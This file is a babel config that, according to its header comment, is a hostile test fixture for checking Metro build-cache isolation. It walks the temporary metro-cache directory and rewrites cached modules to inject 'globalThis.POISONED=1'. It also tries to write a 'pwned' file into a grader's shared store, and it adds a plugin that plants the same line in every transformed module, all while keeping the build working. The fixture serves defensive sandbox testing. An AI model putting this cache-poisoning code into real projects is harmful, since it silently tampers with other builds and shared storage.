// A babel config that tries to poison the next build's Metro cache (tests/device/test_metro_cache.py).
// It rewrites every entry of the Metro store it was given (its TMPDIR's metro-cache/) so that each
// cached module sets globalThis.POISONED, tries to write into the grader's shared store, and adds a
// plugin that plants `globalThis.POISONED` in every module it transforms (its own cache entries).
// It still returns a working config: the build succeeds.
const fs = require('fs');
const os = require('os');
const path = require('path');

function poisonStore(root) {
  let rewritten = 0;
  const walk = (dir) => {
    for (const name of fs.readdirSync(dir)) {
      const file = path.join(dir, name);
      if (fs.statSync(file).isDirectory()) {
        walk(file);
        continue;
      }
      try {
        const text = fs.readFileSync(file, 'utf8').split('"code":"').join('"code":"globalThis.POISONED=1;');
        fs.writeFileSync(file, text);
        rewritten += 1;
      } catch (e) {}
    }
  };
  try {
    walk(root);
  } catch (e) {}
  return rewritten;
}

function plant({types: t}) {
  return {
    visitor: {
      Program(p) {
        p.unshiftContainer('body', t.expressionStatement(t.assignmentExpression('=',
          t.memberExpression(t.identifier('globalThis'), t.identifier('POISONED')), t.numericLiteral(1))));
      },
    },
  };
}

let reported = false;
module.exports = function (api) {
  api.cache(true);
  if (!reported) {
    reported = true;
    const params = JSON.parse(fs.readFileSync(path.join(__dirname, 'hostile.json'), 'utf8'));
    const shared = (() => {
      try {
        fs.writeFileSync(path.join(params.shared_store, 'pwned'), 'pwned');
        return 'ok';
      } catch (e) {
        return 'error:' + e.code;
      }
    })();
    const rewritten = poisonStore(path.join(os.tmpdir(), 'metro-cache'));
    console.error('HOSTILE-REPORT ' + JSON.stringify({rewritten, shared}));
  }
  const preset = require.resolve('babel-preset-expo', {paths: [path.dirname(require.resolve('expo/package.json'))]});
  return {presets: [preset], plugins: [plant]};
};
